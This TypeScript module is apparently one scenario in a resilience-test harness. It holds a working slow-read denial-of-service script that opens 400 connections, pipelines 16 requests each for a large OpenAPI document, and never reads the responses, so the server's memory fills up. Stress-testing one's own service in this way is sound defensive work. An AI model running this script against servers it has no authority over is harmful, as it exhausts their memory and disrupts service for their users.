import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.js';

const CONNECTIONS = 400;
const REQUESTS = 16;

/** 370 KB an answer, of which the process keeps what the kernel does not take. */
export const attack: Attack = {
  title: 'a stranger requests the OpenAPI document 6,400 times and reads nothing',
  run: async ({ host, port }) => {
    const requests = `GET /api/v1/openapi.json HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(REQUESTS);
    const sockets = Array.from({ length: CONNECTIONS }, () => {
      const socket = connect(port, host, () => socket.write(requests));
      return socket.on('error', () => undefined).pause();
    });
    await sleep(10_000);
    for (const socket of sockets) socket.destroy();
  },
};
